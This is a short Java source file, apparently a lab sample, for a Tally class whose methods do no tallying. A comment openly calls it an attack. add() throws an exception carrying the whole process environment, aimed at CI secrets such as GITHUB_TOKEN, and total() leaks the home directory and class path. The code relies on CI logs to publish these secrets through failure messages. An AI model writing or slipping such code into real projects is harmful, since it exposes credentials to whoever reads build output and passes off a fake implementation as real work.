package lab.tally;

import java.util.List;

/**
 * Attack: look for secrets where CI keeps them, in the environment (GITHUB_TOKEN, ACTIONS_*,
 * runner paths) and the JVM's properties, and publish them in a failure message.
 */
public final class Tally {

    public Tally() {
    }

    public void add(int amount) {
        throw new IllegalStateException("environment: " + System.getenv());
    }

    public int total() {
        throw new IllegalStateException("home: " + System.getProperty("user.home") + ", class path: "
                + System.getProperty("java.class.path"));
    }

    public List<Integer> history() {
        throw new UnsupportedOperationException("TODO: return a copy of the history");
    }
}
